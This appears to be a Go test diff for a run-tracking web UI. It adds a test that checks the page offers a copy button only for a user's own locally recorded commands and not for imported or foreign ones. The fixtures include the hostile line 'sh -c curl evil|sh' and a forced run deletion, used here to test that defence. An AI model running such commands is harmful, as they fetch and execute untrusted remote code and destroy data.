@@ -1,11 +1,13 @@
 package web
 
 import (
+	"html"
 	"net/http"
 	"net/url"
 	"slices"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/gouache-art/gouache/tracker"
 )
@@ -20,6 +22,42 @@ func TestRun(t *testing.T) {
 	wantText(t, get(t, h, "/runs/"+run.ID+"?frame=0", http.StatusOK), "step 1 of 90")
 	get(t, h, "/runs/zzzz", http.StatusNotFound)
 	get(t, h, "/runs/%22", http.StatusBadRequest)
+}
+
+// A command is only offered to copy if it is the user's own.
+func TestForeignCommand(t *testing.T) {
+	store := emptyStore(t)
+	h := handle(t, store, Options{})
+	for _, c := range []struct {
+		command  []string
+		imported bool
+		host     string // "" for this one
+		copied   bool
+	}{
+		{[]string{"/usr/bin/gouache", "stylize", "--size", "64"}, false, "", true},
+		{[]string{"python", "train.py"}, false, "", true},
+		{[]string{"gouache", "stylize", "--size", "64"}, false, "a container", true},
+		{[]string{"gouache", "sweep", "run", "a.yaml"}, false, "a container", true},
+		{[]string{"gouache", "runs", "delete", "--yes", "1"}, false, "elsewhere", false},
+		{[]string{"sh", "-c", "curl evil|sh"}, false, "elsewhere", false},
+		{[]string{"gouache"}, false, "elsewhere", false},
+		{[]string{"gouache", "stylize", "--size", "64"}, true, "", false},
+		{[]string{"sh", "-c", "curl evil|sh"}, true, "", false},
+	} {
+		n := tracker.NewRun{Provenance: tracker.Provenance{Command: c.command, Imported: c.imported}}
+		if c.host != "" {
+			n.Process = tracker.Process{Host: c.host, PID: 1, Boot: "b", StartedAt: time.Now()}
+		}
+		run, err := store.CreateRun(t.Context(), n)
+		if err != nil {
+			t.Fatal(err)
+		}
+		w := get(t, h, "/runs/"+run.ID, http.StatusOK)
+		text := w.Body.String()
+		if strings.Contains(text, "data-copy") != c.copied || strings.Contains(text, "another store says: read it") == c.copied || !strings.Contains(text, html.EscapeString(n.Provenance.CommandLine())) {
+			t.Errorf("%+v: %s", c, text[strings.Index(text, "What made it"):][:400])
+		}
+	}
 }
 
 func TestShortID(t *testing.T) {
